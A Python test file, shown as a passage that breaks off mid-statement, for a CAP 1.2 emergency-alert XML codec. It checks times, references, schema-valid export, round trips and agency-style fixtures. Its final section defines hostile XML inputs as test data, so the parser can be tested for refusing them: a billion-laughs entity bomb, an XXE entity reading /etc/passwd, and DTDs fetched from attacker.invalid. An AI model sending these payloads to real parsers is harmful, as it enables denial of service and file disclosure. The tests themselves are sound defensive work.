"""CAP 1.2 codec: schema-valid export, faithful import of real-world CAP, refusal of hostile input.

The official schema and the four examples of the CAP 1.2 specification lie beside the
repository in ``../shared/data/cap``; they are read from there, never copied in.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from lxml import etree

from broadcast.cap import (
    format_datetime,
    format_references,
    from_xml,
    parse_datetime,
    parse_references,
    to_xml,
)
from broadcast.errors import InvalidInput, MalformedInput, PayloadTooLarge, UnsafeXml
from broadcast.model import (
    CAP_NAMESPACE,
    Alert,
    Area,
    Category,
    Certainty,
    Circle,
    Info,
    MsgType,
    NamedValue,
    Polygon,
    Reference,
    Resource,
    ResponseType,
    Scope,
    Severity,
    Status,
    Urgency,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
SHARED_CAP = REPO_ROOT / ".." / "shared" / "data" / "cap"
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "cap"
NS = {"cap": CAP_NAMESPACE}

CST = timezone(timedelta(hours=8))
CEST = timezone(timedelta(hours=2))
EDT = timezone(timedelta(hours=-4))


# ---------------------------------------------------------------------------------------------
# Fixtures and helpers
# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def shared_cap() -> Path:
    if not SHARED_CAP.is_dir():
        pytest.skip(f"the CAP reference data folder {SHARED_CAP.resolve()} is absent (it lies beside the repo)")
    return SHARED_CAP


@pytest.fixture(scope="module")
def cap_schema(shared_cap: Path) -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(shared_cap / "CAP-v1.2.xsd")))


@pytest.fixture
def assert_valid(cap_schema: etree.XMLSchema) -> Callable[[bytes], None]:
    """Check a document against the official CAP 1.2 schema, failing with lxml's error log."""

    def check(document: bytes) -> None:
        if not cap_schema.validate(etree.fromstring(document)):
            pytest.fail(f"not valid CAP 1.2:\n{cap_schema.error_log}\n{document.decode()}")

    return check


def all_times(alert: Alert) -> Iterator[datetime]:
    yield alert.sent
    for ref in alert.references:
        yield ref.sent
    for info in alert.infos:
        yield from (moment for moment in (info.effective, info.onset, info.expires) if moment is not None)


def assert_same_times(left: Alert, right: Alert) -> None:
    """Same instants *and* same offsets (datetime equality alone ignores the offset)."""
    pairs = list(zip(all_times(left), all_times(right), strict=True))
    assert [(a, a.utcoffset()) for a, _ in pairs] == [(b, b.utcoffset()) for _, b in pairs]


def square(lon: float, lat: float, size: float = 0.05) -> Polygon:
    return Polygon(((lon, lat), (lon + size, lat), (lon + size, lat - size), (lon, lat - size), (lon, lat)))


def rich_alert() -> Alert:
    """An Update in two languages using every part of CAP the model holds."""
    sent = datetime(2024, 7, 20, 9, 30, tzinfo=CST)
    onset = datetime(2024, 7, 20, 1, 45, tzinfo=UTC)
    expires = datetime(2024, 7, 21, 9, 30, tzinfo=CST)
    futian = Polygon(((114.0, 22.58), (114.05, 22.58), (114.05, 22.53), (114.0, 22.53), (114.0, 22.58)))
    futian_nanshan = (futian, square(113.9, 22.55, 0.08))  # a multipolygon
    geocodes = (NamedValue("GB/T 2260", "440304"), NamedValue("GB/T 2260", "440305"))
    bay_circles = (Circle(lon=113.95, lat=22.49, radius_km=7.5), Circle(lon=113.98, lat=22.51, radius_km=0.0))
    # A ring with values repr() would write in exponent form, and the antimeridian.
    odd_ring = Polygon(((0.00001, -0.00002), (179.99999, 1e-7), (-180.0, -89.5), (0.00001, -0.00002)))

    def info(language: str, texts: dict[str, str]) -> Info:
        return Info(
            language=language,
            categories=(Category.MET, Category.SAFETY),
            event=texts["event"],
            response_types=(ResponseType.SHELTER, ResponseType.PREPARE),
            urgency=Urgency.IMMEDIATE,
            severity=Severity.EXTREME,
            certainty=Certainty.OBSERVED,
            audience=texts["audience"],
            event_codes=(NamedValue("CN-SIGNAL", "TYPHOON-RED"), NamedValue("profile", "CN-CAP 1.0")),
            effective=sent,
            onset=onset,
            expires=expires,
            sender_name=texts["sender"],
            headline=texts["headline"],
            description=texts["description"],
            instruction=texts["instruction"],
            web="https://weather.example.cn/warning/TY2024-07?lang=" + language,
            contact="+86 755 0000 0000",
            parameters=(
                NamedValue("colour", "red"),
                NamedValue("wind", "≥ 12 <Beaufort> & gusts"),
                NamedValue("empty", ""),
            ),
            resources=(
                Resource(
                    texts["radar"],
                    "image/png",
                    size=123_456,
                    uri="https://weather.example.cn/r.png",
                    digest="3f786850e387550fdab836ed7e6dc881de23001b",
                ),
                Resource("voice", "audio/mpeg", deref_uri="SUQzBAAAAAAAI1RTU0UAAAAPAAADTGF2ZjU4"),
            ),
            areas=(
                Area(texts["area0"], polygons=futian_nanshan, geocodes=geocodes),
                Area(texts["area1"], circles=bay_circles, altitude=0.0, ceiling=3280.84),
                Area(
                    texts["area2"],
                    polygons=(odd_ring, square(114.5, 22.6)),
                    circles=bay_circles[:1],
                    geocodes=(NamedValue("GB/T 2260", "440300"),),
                    altitude=-12.5,
                ),
            ),
        )

    zh = info(
        "zh-CN",
        {
            "event": "台风",
            "audience": "公众",
            "sender": "深圳市气象台",
            "headline": "深圳市台风红色预警信号",
            "description": "台风“示例”中心已进入本市。\n预计未来6小时风力可达12级。",
            "instruction": "请留在室内，远离门窗。",
            "radar": "雷达图",
            "area0": "福田区、南山区",
            "area1": "深圳湾",
            "area2": "全市及近海",
        },
    )
    en = info(
        "en",
        {
            "event": "Typhoon",
            "audience": "Public",
            "sender": "Shenzhen Meteorological Observatory",
            "headline": "Typhoon red warning for Shenzhen",
            "description": "The centre of the typhoon has entered the city.\nGale force 12 expected within 6 hours.",
            "instruction": "Stay indoors, away from doors and windows.",
            "radar": "Radar image",
            "area0": "Futian and Nanshan",
            "area1": "Shenzhen Bay",
            "area2": "Whole city and coastal waters",
        },
    )
    return Alert(
        identifier="CN-SZ-2024-0720-0930-TY",
        sender="alerts@szmb.example.cn",
        sent=sent,
        status=Status.ACTUAL,
        msg_type=MsgType.UPDATE,
        scope=Scope.PUBLIC,
        source="SZMB duty forecaster",
        codes=("CN-CAP-1.0", "lang:zh-CN,en"),
        note="Upgraded from orange to red",
        references=(
            Reference("alerts@szmb.example.cn", "CN-SZ-2024-0719-2200-TY", datetime(2024, 7, 19, 22, 0, tzinfo=UTC)),
            Reference("alerts@szmb.example.cn", "CN-SZ-2024-0720-0800-TY", datetime(2024, 7, 20, 8, 0, tzinfo=CST)),
        ),
        incidents="TY2024-07",
        infos=(zh, en),
    )


# A valid two-language document that the error tests below break one element at a time.
BASE = """<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>SZMB-2024-0042</identifier>
  <sender>alerts@szmb.example.cn</sender>
  <sent>2024-06-12T06:20:00+08:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <language>zh-CN</language>
    <category>Met</category>
    <event>暴雨</event>
    <urgency>Immediate</urgency>
    <severity>Moderate</severity>
    <certainty>Likely</certainty>
    <onset>2024-06-12T06:20:00+08:00</onset>
    <expires>2024-06-12T12:00:00+08:00</expires>
    <headline>暴雨黄色预警</headline>
    <area>
      <areaDesc>福田区</areaDesc>
      <polygon>22.58,114.00 22.58,114.10 22.50,114.10 22.50,114.00 22.58,114.00</polygon>
    </area>
  </info>
  <info>
    <language>en</language>
    <category>Met</category>
    <event>Rainstorm</event>
    <urgency>Immediate</urgency>
    <severity>Moderate</severity>
    <certainty>Likely</certainty>
    <headline>Rainstorm yellow warning</headline>
    <area>
      <areaDesc>Futian District</areaDesc>
      <polygon>22.58,114.00 22.58,114.10 22.50,114.10 22.50,114.00 22.58,114.00</polygon>
    </area>
    <area>
      <areaDesc>Nanshan District</areaDesc>
      <polygon>22.60,113.85 22.60,113.98 22.48,113.98 22.48,113.85 22.60,113.85</polygon>
      <circle>22.53,113.93 5</circle>
      <geocode>
        <valueName>GB/T 2260</valueName>
        <value>440305</value>
      </geocode>
    </area>
  </info>
</alert>
"""

NANSHAN_RING = "22.60,113.85 22.60,113.98 22.48,113.98 22.48,113.85 22.60,113.85"


def mutate(old: str, new: str, occurrence: int = 1) -> bytes:
    """BASE with the ``occurrence``-th ``old`` replaced by ``new``."""
    parts = BASE.split(old)
    assert len(parts) > occurrence, f"{old!r} occurs fewer than {occurrence} times in BASE"
    text = old.join(parts[:occurrence]) + new + old.join(parts[occurrence:])
    return text.encode("utf-8")


def test_base_document_is_valid(assert_valid) -> None:
    assert_valid(BASE.encode())
    alert = from_xml(BASE.encode())
    assert [len(info.areas) for info in alert.infos] == [1, 2]


# ---------------------------------------------------------------------------------------------
# Times and references
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("moment", "text"),
    [
        (datetime(2024, 7, 20, 1, 45, 0, tzinfo=UTC), "2024-07-20T01:45:00-00:00"),
        (datetime(2024, 7, 20, 9, 45, 0, tzinfo=CST), "2024-07-20T09:45:00+08:00"),
        (datetime(2003, 6, 17, 14, 57, tzinfo=timezone(timedelta(hours=-7))), "2003-06-17T14:57:00-07:00"),
        (datetime(2024, 1, 1, 0, 0, tzinfo=timezone(timedelta(hours=5, minutes=30))), "2024-01-01T00:00:00+05:30"),
        (datetime(2024, 1, 1, 0, 0, tzinfo=timezone(timedelta(hours=-3, minutes=-30))), "2024-01-01T00:00:00-03:30"),
        (datetime(2024, 7, 20, 1, 45, 59, 999_999, tzinfo=UTC), "2024-07-20T01:45:59-00:00"),
        (datetime(812, 3, 4, 5, 6, 7, tzinfo=UTC), "0812-03-04T05:06:07-00:00"),
        # An offset with seconds cannot be written in CAP: the instant is kept, in UTC.
        (datetime(2024, 1, 1, 0, 0, 30, tzinfo=timezone(timedelta(seconds=30))), "2024-01-01T00:00:00-00:00"),
    ],
)
def test_format_datetime_writes_cap_times(moment: datetime, text: str) -> None:
    assert format_datetime(moment) == text


def test_format_datetime_refuses_naive_times() -> None:
    with pytest.raises(InvalidInput, match="UTC offset"):
        format_datetime(datetime(2024, 1, 1, 12, 0))


@pytest.mark.parametrize(
    ("text", "expected", "offset"),
    [
        ("2003-06-17T14:57:00-07:00", datetime(2003, 6, 17, 21, 57, tzinfo=UTC), timedelta(hours=-7)),
        ("  2024-07-20T09:45:00+08:00\n", datetime(2024, 7, 20, 1, 45, tzinfo=UTC), timedelta(hours=8)),
        ("2024-07-20T01:45:00-00:00", datetime(2024, 7, 20, 1, 45, tzinfo=UTC), timedelta(0)),
        # Not CAP, but sent by real feeds: read, with the fraction dropped.
        ("2024-07-20T01:45:00Z", datetime(2024, 7, 20, 1, 45, tzinfo=UTC), timedelta(0)),
        ("2024-07-20T01:45:00.750+02:00", datetime(2024, 7, 19, 23, 45, tzinfo=UTC), timedelta(hours=2)),
    ],
)
def test_parse_datetime_keeps_the_offset(text: str, expected: datetime, offset: timedelta) -> None:
    parsed = parse_datetime(text, "sent")
    assert parsed == expected
    assert parsed.utcoffset() == offset
    assert parsed.microsecond == 0


@pytest.mark.parametrize(
    "text",
    [
        "2024-07-20T01:45:00",  # no offset
        "2024-07-20 01:45:00+08:00",
        "2024-07-20",
        "2024-02-30T01:45:00+08:00",  # no such day
        "2024-07-20T25:00:00+08:00",
        "2024-07-20T01:45:00+24:00",  # offsets are below a day
        "20240720T014500+0800",
        "yesterday",
        "",
    ],
)
def test_parse_datetime_refuses_bad_times(text: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        parse_datetime(text, "info[0].onset")
    assert caught.value.field == "info[0].onset"


def test_references_round_trip() -> None:
    refs = (
        Reference(
            "trinet@caltech.edu", "TRI13970876.1", datetime(2003, 6, 11, 20, 30, tzinfo=timezone(timedelta(hours=-7)))
        ),
        Reference("opendata@dwd.de", "2.49.0.0.276.0.DWD.PVW.1.MUL", datetime(2023, 9, 1, 9, 0, tzinfo=UTC)),
    )
    text = format_references(refs)
    assert text == (
        "trinet@caltech.edu,TRI13970876.1,2003-06-11T20:30:00-07:00 "
        "opendata@dwd.de,2.49.0.0.276.0.DWD.PVW.1.MUL,2023-09-01T09:00:00-00:00"
    )
    assert parse_references(text) == refs
    assert parse_references(f"\n   {text.replace(' ', chr(10) + '  ')}\n") == refs
    assert parse_references("a@b , id-1 , 2024-01-01T00:00:00+08:00") == (
        Reference("a@b", "id-1", datetime(2024, 1, 1, tzinfo=CST)),
    )
    assert parse_references("   ") == ()


@pytest.mark.parametrize(
    "text",
    ["sender,identifier", "sender,identifier,sent,extra", ",id,2024-01-01T00:00:00+08:00", "s,i,2024-01-01T00:00:00"],
)
def test_parse_references_refuses_bad_entries(text: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        parse_references(text)
    assert caught.value.field == "references"


def test_format_references_refuses_unwritable_parts() -> None:
    with pytest.raises(InvalidInput) as caught:
        format_references([Reference("a sender", "id", datetime(2024, 1, 1, tzinfo=UTC))])
    assert caught.value.field == "references"


# ---------------------------------------------------------------------------------------------
# Export
# ---------------------------------------------------------------------------------------------


def test_export_is_schema_valid_cap_with_default_namespace(assert_valid) -> None:
    document = to_xml(rich_alert())
    assert_valid(document)
    assert document.startswith(
        b'<?xml version="1.0" encoding="UTF-8"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
    )
    assert b"<ns0:" not in document and b"<cap:" not in document and b"xmlns:" not in document
    assert to_xml(rich_alert()) == document  # deterministic


def test_export_writes_cap_times_geometry_and_references() -> None:
    root = etree.fromstring(to_xml(rich_alert()))
    times = [
        node.text
        for node in root.iterfind(".//cap:*", NS)
        if etree.QName(node).localname in {"sent", "effective", "onset", "expires"}
    ]
    assert times[:4] == [
        "2024-07-20T09:30:00+08:00",
        "2024-07-20T09:30:00+08:00",
        "2024-07-20T01:45:00-00:00",
        "2024-07-21T09:30:00+08:00",
    ]
    assert not any("Z" in text or "." in text for text in times)
    assert root.findtext("cap:references", namespaces=NS) == (
        "alerts@szmb.example.cn,CN-SZ-2024-0719-2200-TY,2024-07-19T22:00:00-00:00 "
        "alerts@szmb.example.cn,CN-SZ-2024-0720-0800-TY,2024-07-20T08:00:00+08:00"
    )
    area = root.find("cap:info/cap:area", NS)
    # The model's (lon, lat) becomes CAP's lat,lon, first pair repeated last.
    assert area.findtext("cap:polygon", namespaces=NS) == (
        "22.58,114.0 22.58,114.05 22.53,114.05 22.53,114.0 22.58,114.0"
    )
    circles = [node.text for node in root.find("cap:info", NS).iterfind("cap:area/cap:circle", NS)]
    assert circles[:2] == ["22.49,113.95 7.5", "22.51,113.98 0.0"]
    odd = root.findall("cap:info/cap:area", NS)[2].findtext("cap:polygon", namespaces=NS)
    assert odd == "-0.00002,0.00001 0.0000001,179.99999 -89.5,-180.0 -0.00002,0.00001"
    assert [node.localname for node in map(etree.QName, root.find("cap:info", NS))][:6] == [
        "language",
        "category",
        "category",
        "event",
        "responseType",
        "responseType",
    ]


def test_export_refuses_characters_xml_cannot_carry() -> None:
    zh = rich_alert().infos[0]
    broken = replace(zh, description="bad\x00byte")
    alert = Alert(
        "id-1", "sender", datetime(2024, 1, 1, tzinfo=UTC), Status.TEST, MsgType.ALERT, Scope.PUBLIC, infos=(zh, broken)
    )
    with pytest.raises(InvalidInput) as caught:
        to_xml(alert)
    assert caught.value.field == "info[1].description"


def test_export_refuses_non_finite_numbers() -> None:
    area = Area("somewhere", altitude=float("inf"))
    info = Info("en", (Category.MET,), "Fog", Urgency.FUTURE, Severity.MINOR, Certainty.POSSIBLE, areas=(area,))
    alert = Alert(
        "id-1", "sender", datetime(2024, 1, 1, tzinfo=UTC), Status.TEST, MsgType.ALERT, Scope.PUBLIC, infos=(info,)
    )
    with pytest.raises(InvalidInput) as caught:
        to_xml(alert)
    assert caught.value.field == "info[0].area[0].altitude"


# ---------------------------------------------------------------------------------------------
# Round trips
# ---------------------------------------------------------------------------------------------


def test_rich_alert_round_trips(assert_valid) -> None:
    alert = rich_alert()
    document = to_xml(alert)
    assert_valid(document)
    back = from_xml(document)
    assert back == alert
    assert_same_times(back, alert)
    assert back.languages == ("zh-CN", "en")
    assert back.infos[1].parameters[1].value == "≥ 12 <Beaufort> & gusts"
    assert to_xml(back) == document


@pytest.mark.parametrize(
    "alert",
    [
        Alert(
            "c-1",
            "ops@example.org",
            datetime(2024, 3, 1, 12, tzinfo=UTC),
            Status.EXERCISE,
            MsgType.CANCEL,
            Scope.PRIVATE,
            addresses='officer-17 "district 4 duty desk"',
            references=(Reference("ops@example.org", "a-1", datetime(2024, 3, 1, 11, tzinfo=UTC)),),
        ),
        Alert(
            "r-1",
            "ops@example.org",
            datetime(2024, 3, 1, 20, tzinfo=CST),
            Status.SYSTEM,
            MsgType.ALERT,
            Scope.RESTRICTED,
            restriction="duty officers only",
            codes=("heartbeat",),
        ),
    ],
    ids=["private-cancel-without-info", "restricted-system"],
)
def test_sparse_alerts_round_trip(alert: Alert, assert_valid) -> None:
    document = to_xml(alert)
    assert_valid(document)
    assert from_xml(document) == alert
    assert_same_times(from_xml(document), alert)


# ---------------------------------------------------------------------------------------------
# The CAP 1.2 specification's own examples
# ---------------------------------------------------------------------------------------------

SPEC_EXAMPLES = {
    1: ("43b080713727", "hsas@dhs.gov", "2003-04-02T14:39:01-05:00", timedelta(hours=-5)),
    2: ("KSTO1055887203", "KSTO@NWS.NOAA.GOV", "2003-06-17T14:57:00-07:00", timedelta(hours=-7)),
    3: ("TRI13970876.2", "trinet@caltech.edu", "2003-06-11T20:56:00-07:00", timedelta(hours=-7)),
    4: ("KAR0-0306112239-SW", "KARO@CLETS.DOJ.CA.GOV", "2003-06-11T22:39:00-07:00", timedelta(hours=-7)),
}


@pytest.mark.parametrize("number", sorted(SPEC_EXAMPLES))
def test_spec_examples_import_and_reexport_valid(number: int, shared_cap: Path, assert_valid) -> None:
    source = (shared_cap / f"cap12-spec-example-{number}.xml").read_bytes()
    identifier, sender, sent, offset = SPEC_EXAMPLES[number]
    alert = from_xml(source)
    assert (alert.identifier, alert.sender) == (identifier, sender)
    assert alert.sent.utcoffset() == offset
    assert format_datetime(alert.sent) == sent
    document = to_xml(alert)
    assert_valid(document)
    assert from_xml(document) == alert
    assert_same_times(from_xml(document), alert)


def test_spec_examples_details(shared_cap: Path) -> None:
    def load(number: int) -> Alert:
        return from_xml((shared_cap / f"cap12-spec-example-{number}.xml").read_bytes())

    homeland = load(1)
    assert homeland.infos[0].language == "en-US"  # <language> absent
    assert homeland.infos[0].resources == (
        Resource("Image file (GIF)", "image/gif", uri="http://www.dhs.gov/dhspublic/getAdvisoryImage"),
    )
    assert homeland.infos[0].description.startswith("The Department of Homeland Security")

    storm = load(2).infos[0]
    ring = storm.areas[0].polygons[0].points
    assert len(ring) == 5 and ring[0] == ring[-1] == (-120.14, 38.47)
    assert [code.value for code in storm.areas[0].geocodes] == ["006109", "006009", "006003"]
    assert storm.event_codes == (NamedValue("SAME", "SVR"),)
    assert storm.expires == datetime(2003, 6, 17, 16, tzinfo=timezone(timedelta(hours=-7)))

    quake = load(3)
    assert quake.msg_type is MsgType.UPDATE
    assert quake.references == (
        Reference(
            "trinet@caltech.edu", "TRI13970876.1", datetime(2003, 6, 11, 20, 30, tzinfo=timezone(timedelta(hours=-7)))
        ),
    )
    assert quake.references[0].sent.utcoffset() == timedelta(hours=-7)
    assert quake.infos[0].areas[0].circles == (Circle(lon=-115.5527, lat=32.9525, radius_km=0.0),)
    assert len(quake.infos[0].parameters) == 5

    amber = load(4)
    assert amber.source == "SW"
    assert amber.languages == ("en-US", "es-US")
    assert amber.infos[1].event == "Abducción de Niño"


# ---------------------------------------------------------------------------------------------
# Hand-written documents in the style of other agencies
# ---------------------------------------------------------------------------------------------


def load_fixture(name: str) -> tuple[bytes, Alert]:
    data = (FIXTURES / name).read_bytes()
    return data, from_xml(data)


@pytest.mark.parametrize("name", sorted(path.name for path in FIXTURES.glob("*.xml")))
def test_fixtures_are_valid_cap_and_round_trip(name: str, assert_valid) -> None:
    data, alert = load_fixture(name)
    assert_valid(data)
    document = to_xml(alert)
    assert_valid(document)
    assert from_xml(document) == alert
    assert_same_times(from_xml(document), alert)


def test_fixture_count() -> None:
    assert len(list(FIXTURES.glob("*.xml"))) >= 4


def test_hong_kong_observatory_bilingual_typhoon_signal() -> None:
    _, alert = load_fixture("hko-typhoon-signal8-zh-hk-en.xml")
    assert (alert.identifier, alert.sender, alert.msg_type) == (
        "HKO-TCWS-TC8NE-20230901T094000",
        "cap@hko.gov.hk",
        MsgType.ALERT,
    )
    assert alert.sent == datetime(2023, 9, 1, 9, 40, tzinfo=CST) and alert.sent.utcoffset() == timedelta(hours=8)
    assert alert.codes == ("TCWS",) and alert.incidents == "TC2309-SAOLA"
    assert alert.languages == ("zh-HK", "en")
    assert [len(info.areas) for info in alert.infos] == [2, 2]
    assert [[len(area.polygons) for area in info.areas] for info in alert.infos] == [[2, 1], [2, 1]]
    zh, en = alert.infos
    assert zh.event == "熱帶氣旋警告信號" and zh.headline == "八號東北烈風或暴風信號"
    assert zh.description.startswith("超強颱風蘇拉") and zh.description.endswith("間中吹烈風。")  # stripped
    assert zh.response_types == (ResponseType.SHELTER, ResponseType.PREPARE)
    assert (zh.urgency, zh.severity, zh.certainty) == (Urgency.IMMEDIATE, Severity.SEVERE, Certainty.OBSERVED)
    assert zh.event_codes == en.event_codes == (NamedValue("HKO-TCWS", "TC8NE"),)
    assert en.parameters == (NamedValue("SignalNumber", "8"), NamedValue("WindDirection", "NE"))
    assert en.expires - en.onset == timedelta(days=1)
    # The multi-line polygon is read pair by pair, with (lon, lat) swapped from CAP's lat,lon.
    main = en.areas[0].polygons[0].points
    assert len(main) == 6 and main[0] == main[-1] == (113.835, 22.562) and main[3] == (114.15, 22.153)
    assert en.areas[0].polygons == zh.areas[0].polygons
    assert alert.severity is Severity.SEVERE and alert.expires == datetime(2023, 9, 2, 9, 40, tzinfo=CST)


def test_dwd_thunderstorm_update_with_references_and_warncells() -> None:
    _, alert = load_fixture("dwd-thunderstorm-update-de-en.xml")  # cap: prefix, not default namespace
    assert alert.msg_type is MsgType.UPDATE and alert.source == "PVW"
    assert alert.sent.utcoffset() == timedelta(hours=2)
    assert len(alert.codes) == 2 and alert.codes[0] == "DVN:1"
    assert [(ref.sender, ref.sent) for ref in alert.references] == [
        ("opendata@dwd.de", datetime(2023, 9, 1, 11, 2, tzinfo=CEST)),
        ("opendata@dwd.de", datetime(2023, 9, 1, 11, 30, tzinfo=CEST)),
    ]
    assert alert.references[0].identifier.endswith("0b1d2e3f-4a5b-4c6d-8e7f-901a2b3c4d5e.MUL")
    assert alert.languages == ("de-DE", "en-GB")
    de, en = alert.infos
    assert [len(info.areas) for info in alert.infos] == [3, 3]
    assert [len(area.polygons) for area in de.areas] == [1, 1, 2]
    assert [len(area.geocodes) for area in de.areas] == [1, 1, 2]
    assert {code.value_name for area in de.areas for code in area.geocodes} == {"WARNCELLID"}
    assert [area.geocodes[0].value for area in en.areas] == ["103159000", "106611000", "106633000"]
    assert de.areas[0].desc == "Kreis Göttingen" and (de.areas[0].altitude, de.areas[0].ceiling) == (0.0, 9842.5197)
    # "51.40 , 9.30" (spaces around the comma) is tolerated.
    assert de.areas[2].polygons[1].points[0] == (9.30, 51.40)
    assert len(de.event_codes) == 5 and de.event_codes[1].value == "© GeoBasis-DE / BKG 2019 (Daten verändert)"
    assert de.parameters[2] == NamedValue("hail", "<2 [cm]")  # an escaped '<' in a value
    assert (de.severity, de.certainty, de.audience) == (Severity.MODERATE, Certainty.LIKELY, "Allgemeinheit")
    assert en.event == "THUNDERSTORMS" and en.onset == datetime(2023, 9, 1, 12, 10, tzinfo=CEST)


def test_nws_flood_warning_with_vtec_same_ugc_circle_and_resource() -> None:
    _, alert = load_fixture("nws-flood-warning-en-us.xml")
    assert alert.identifier.startswith("urn:oid:2.49.0.1.840.0.")
    assert alert.sent == datetime(2024, 4, 3, 14, 12, tzinfo=EDT) and alert.sent.utcoffset() == timedelta(hours=-4)
    (info,) = alert.infos
    assert info.event == "Flood Warning" and info.response_types == (ResponseType.AVOID,)
    assert info.event_codes == (NamedValue("SAME", "FLW"), NamedValue("NationalWeatherService", "FLW"))
    vtec = [p.value for p in info.parameters if p.value_name == "VTEC"]
    assert vtec == [
        "/O.NEW.KRLX.FL.W.0012.240404T1200Z-240407T0000Z/",
        "/PTPW2.1.ER.240404T1200Z.240405T1800Z.240406T1800Z.NO/",
    ]
    assert len(info.parameters) == 8
    assert "* WHAT...Minor flooding is forecast." in info.description
    assert info.resources == (
        Resource(
            desc="Hydrograph for Ohio River at Point Pleasant",
            mime_type="image/png",
            size=48213,
            uri="https://water.noaa.gov/resources/hydrographs/ptpw2_hg.png",
            digest="2f0c4a8e1b9d7a6c5e4f3a2b1c0d9e8f7a6b5c4d",
        ),
    )
    gallia, gauge = info.areas
    assert len(gallia.polygons) == 1 and len(gallia.polygons[0].points) == 5 and not gallia.circles
    by_scheme: dict[str, list[str]] = {}
    for code in gallia.geocodes:
        by_scheme.setdefault(code.value_name, []).append(code.value)
    assert by_scheme == {"SAME": ["039053", "054053"], "UGC": ["OHC053", "WVC053"]}
    assert gauge.circles == (Circle(lon=-82.1371, lat=38.8445, radius_km=4.8),) and not gauge.polygons
    assert gauge.has_geometry


def test_cancel_of_a_rainstorm_signal() -> None:
    _, alert = load_fixture("cma-rainstorm-cancel-zh-cn.xml")
    assert alert.msg_type is MsgType.CANCEL
    assert alert.references == (
        Reference("44030041600000", "44030041600000_20240612062000", datetime(2024, 6, 12, 6, 20, tzinfo=CST)),
    )
    (info,) = alert.infos
    assert info.language == "zh-CN" and info.response_types == (ResponseType.ALL_CLEAR,)
    assert (info.urgency, info.severity, info.certainty) == (Urgency.PAST, Severity.MINOR, Certainty.OBSERVED)
    assert info.expires is None and info.onset is None
    (area,) = info.areas
    assert area.geocodes == (NamedValue("GB/T 2260", "440300"),) and not area.has_geometry


# ---------------------------------------------------------------------------------------------
# Lenient where real feeds differ harmlessly
# ---------------------------------------------------------------------------------------------


def test_foreign_namespace_elements_and_empty_optionals_are_ignored() -> None:
    data = mutate(
        "</info>\n</alert>",
        '</info>\n  <Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature>\n</alert>',
    ).replace(
        b"<headline>Rainstorm yellow warning</headline>",
        b"<headline>Rainstorm yellow warning</headline><web/><contact>   </contact>",
    )
    alert = from_xml(data)
    assert alert.infos[1].web is None and alert.infos[1].contact is None


def test_latin1_document_is_decoded_by_its_declaration() -> None:
    # Latin-1 cannot hold the Chinese texts of BASE: replace them, then encode the whole document.
    text = BASE.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace("暴雨黄色预警", "Avis de pluie")
    text = text.replace("暴雨", "Pluie").replace("福田区", "Futian").replace("Rainstorm<", "Abducción de Niño<")
    data = text.encode("latin-1")
    assert "Abducción".encode("latin-1") in data and "Abducción".encode() not in data
    assert from_xml(data).infos[1].event == "Abducción de Niño"


def test_whitespace_around_values_is_stripped() -> None:
    data = mutate("<urgency>Immediate</urgency>", "<urgency>\n      Immediate\n    </urgency>")
    data = data.replace(b"<circle>22.53,113.93 5</circle>", b"<circle>\n 22.53, 113.93   5 \n</circle>")
    alert = from_xml(data)
    assert alert.infos[0].urgency is Urgency.IMMEDIATE
    assert alert.infos[1].areas[1].circles == (Circle(lon=113.93, lat=22.53, radius_km=5.0),)


# ---------------------------------------------------------------------------------------------
# Hostile input
# ---------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>x</identifier><sender>s</sender><sent>2024-01-01T00:00:00+00:00</sent>
  <status>Actual</status><msgType>Alert</msgType><scope>Public</scope><note>&xxe;</note>
</alert>
"""

EXTERNAL_DTD = BASE.replace(
    '<?xml version="1.0" encoding="UTF-8"?>\n',
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">\n',
).encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>
"""

INTERNAL_DTD = BASE.replace(
